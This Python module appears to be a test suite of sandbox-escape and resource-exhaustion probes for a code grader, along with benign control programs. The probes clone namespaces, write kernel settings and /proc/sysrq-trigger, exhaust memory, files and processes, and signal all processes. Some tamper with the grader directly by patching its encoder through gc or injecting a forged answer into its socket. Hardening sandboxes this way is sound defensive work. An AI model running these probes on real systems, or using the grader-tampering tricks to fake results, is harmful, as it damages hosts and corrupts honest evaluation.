"""Attacks on what the walls leave open: memory that is not private, namespaces, sockets, folders, time, and the bytes
that the grader itself reads. Each is {name: (a cell of their own, forget_gate, lstm_step)}; None stands for the stub.
"""

IN_A_CHILD = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
def in_a_child(act):
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(99 if act() else 0)
        except BaseException:
            os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 99
"""
STUDENT = """
import gc, struct
for o in gc.get_objects():
    if type(o).__name__ == "Student":
        o.encode = lambda value: struct.pack("!I", len(text)) + text
"""

ATTACKS = {
    "clone_user_namespace": (
        IN_A_CHILD
        + """
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x50000000):
    def act(flag=flag):
        pid = libc.syscall({"x86_64": 56}.get(os.uname().machine, 220), flag | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        return pid > 0
    if in_a_child(act):
        print("LEAK: a namespace", hex(flag))
""",
        None,
        None,
    ),
    "clone_by_other_numbers": (
        IN_A_CHILD
        + """
for number in (435, 0x40000000 | 56, 0x40000000 | 272, 272):
    if in_a_child(lambda: libc.syscall(number, 0x10000000, 0, 0, 0, 0) == 0 and os.getpid() > 0):
        print("LEAK: system call", number)
""",
        None,
        None,
    ),
    "odd_sockets": (
        """
import socket
for family in range(3, 64):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind, 0).close()
            if family != 10 or kind not in (1, 2, 5):
                print("LEAK: a socket of family", family, kind)
        except OSError:
            pass
for kind, protocol in ((3, 1), (2, 1), (1, 132), (1, 262), (6, 33), (10, 768), (1, 6 | 1 << 40), (2, 136)):
    try:
        socket.socket(2, kind, protocol).close()
        print("LEAK: a socket of protocol", kind, protocol)
    except (OSError, OverflowError):
        pass
a, b = socket.socketpair()
a.sendall(b"still there")
print(b.recv(20))
""",
        None,
        None,
    ),
    "shared_memory": (
        """
import mmap
kept = mmap.mmap(-1, 1700 << 20)
for at in range(0, len(kept), 4096):
    kept[at] = 1
print("LEAK of memory")
""",
        None,
        None,
    ),
    "shared_memory_in_children": (
        """
import mmap, os, time
told = os.pipe()
for n in range(4):
    if os.fork() == 0:
        kept = mmap.mmap(-1, 500 << 20)
        for at in range(0, len(kept), 4096):
            kept[at] = 1
        os.write(told[1], b"x")
        time.sleep(600)
for n in range(4):
    os.read(told[0], 1)
time.sleep(3)
print("LEAK of memory")
""",
        None,
        None,
    ),
    "memory_of_children": (
        """
import os, time
told = os.pipe()
for n in range(8):
    if os.fork() == 0:
        kept = bytearray(b"x") * (200 << 20)
        os.write(told[1], b"x")
        time.sleep(600)
for n in range(8):
    os.read(told[0], 1)
time.sleep(3)
print("LEAK of memory")
""",
        None,
        None,
    ),
    "memory_in_files_of_memory": (
        """
import os
made = 0
try:
    for n in range(30):
        handle = os.memfd_create(str(n))
        made += os.write(handle, bytes(60 << 20))
except OSError as error:
    print(error)
print("LEAK of memory" if made else "none")
""",
        None,
        None,
    ),
    "memory_of_system_v": (
        IN_A_CHILD
        + """
for name, words in (("shmget", (0, 64 << 20, 0o1600)), ("msgget", (0, 0o1600)), ("semget", (0, 1, 0o1600))):
    if getattr(libc, name)(*words) >= 0:
        print("LEAK of", name)
if libc.syscall({"x86_64": 240}.get(os.uname().machine, 180), b"q", os.O_CREAT | os.O_RDWR, 0o600, 0) >= 0:
    print("LEAK of a queue")
""",
        None,
        None,
    ),
    "memory_of_sockets": (
        """
import socket
kept, held = [], 0
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        for end in pair:
            end.setblocking(False)
            try:
                while True:
                    held += end.send(bytes(4096))
            except BlockingIOError:
                pass
except OSError as error:
    print(error)
print("LEAK of memory" if held > 100 << 20 else "stopped")
""",
        None,
        None,
    ),
    "many_small_files": (
        """
import os
made = 0
for folder in (".", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
    try:
        for n in range(20_000):
            open(f"{folder}/{n}", "w").close()
            made += 1
    except OSError:
        pass
print("LEAK of files" if made > 3 * 4096 else "stopped")
""",
        None,
        None,
    ),
    "write_everywhere": (
        """
import os
mine = {os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/dev/shm"}
for line in open("/proc/self/mountinfo"):
    top = line.split()[4].encode().decode("unicode_escape")
    for base, folders, names in os.walk(top):
        folders[:] = [f for f in folders if os.path.join(base, f) not in mine][:40]
        if base.startswith("/proc") and base.count("/") > 3 or base in mine:
            folders[:] = []
            continue
        try:
            with open(os.path.join(base, "left-by-attack"), "w") as file:
                file.write("x")
            print("LEAK: wrote into", base)
        except OSError:
            pass
""",
        None,
        None,
    ),
    "find_what_was_left": (
        """
import os
for base, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(base, f) not in ("/proc", "/usr", "/lib", "/root", "/work")]
    if "left-by-attack" in names:
        print("LEAK: found in", base)
""",
        None,
        None,
    ),
    "terminals": (
        """
import os
try:
    pair = os.openpty()
    print("LEAK: a terminal", os.ttyname(pair[1]))
except OSError as error:
    print(error)
if set(os.listdir("/dev/pts")) - {"ptmx"}:
    print("LEAK: terminals of others")
""",
        None,
        None,
    ),
    "settings_of_the_kernel": (
        """
import os
for path in ("kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory", "net/ipv4/ip_forward", "fs/file-max"):
    try:
        open(f"/proc/sys/{path}", "r+").write("1")
        print("LEAK: wrote", path)
    except OSError:
        pass
for path in ("/proc/sysrq-trigger", "/proc/1/mem", "/proc/self/oom_score_adj"):
    try:
        handle = os.open(path, os.O_WRONLY)
        if "oom" not in path and "mem" not in path:
            print("LEAK: opened", path)
        if "oom" in path:
            os.write(handle, b"-1000")
            print("LEAK: never killed")
    except OSError:
        pass
""",
        None,
        None,
    ),
    "many_fields": (
        'text = (\'{"named": ["P", [\' + ", ".join(f\'"f{n}"\' for n in range(200_000)) + "], []]}").encode()'
        + STUDENT,
        None,
        None,
    ),
    "many_brackets": ('text = b\'{"list": [\' + b"[]," * 8_000_000 + b"0]}"' + STUDENT, None, None),
    "few_keys_with_one_hash": (
        'text = (\'{"set": [\' + ", ".join(str(n * (2**61 - 1)) for n in range(9_900)) + "]}").encode()' + STUDENT,
        None,
        None,
    ),
    "long_ranges": (
        "",
        "def forget_gate(*a):\n    return range(10**12)",
        "def lstm_step(*a):\n    return [range(10**6)] * 20, range(10**8)",
    ),
    "half_an_answer": (
        # The beginning of an answer, and nothing after it.
        """
import gc, socket, struct, time
def half(*a):
    for o in gc.get_objects():
        if isinstance(o, socket.socket) and o.family == socket.AF_UNIX and o.fileno() >= 0:
            o.sendall(struct.pack("!IB", 1000, 65) + b"x" * 10)
    time.sleep(600)
""",
        "def forget_gate(*a):\n    return half()",
        None,
    ),
    "many_processes": (
        """
import os, time
for n in range(20):
    if os.fork() == 0:
        os.setsid()
        end = time.process_time() + 3
        while time.process_time() < end: pass
        os._exit(0)
""",
        None,
        None,
    ),
    "signals_to_all": (
        """
import os, signal
if os.fork() == 0:
    for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
        try:
            os.kill(-1, number)
            os.killpg(0, number)
        except OSError:
            pass
    os._exit(0)
os.wait()
""",
        None,
        None,
    ),
}
# Code that uses the same things for honest ends keeps its points.
HONEST_ONES = {
    "z_children_share_memory": """
import mmap, os
kept = mmap.mmap(-1, 300 << 20)
for at in range(0, len(kept), 4096):
    kept[at] = 1
for n in range(6):
    if os.fork() == 0:
        sum(kept[at] for at in range(0, len(kept), 4096))
        os._exit(0)
for n in range(6):
    os.wait()
""",
    "z_threads_and_pools": """
import concurrent.futures, multiprocessing, asyncio
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    assert sum(pool.map(lambda n: int(np.ones((100, 100)).sum()), range(16))) == 160_000
with multiprocessing.get_context("fork").Pool(2) as pool:
    assert pool.map(abs, [-1, -2]) == [1, 2]
async def later():
    await asyncio.sleep(0.01)
    return 1
assert await later() == 1
""",
}
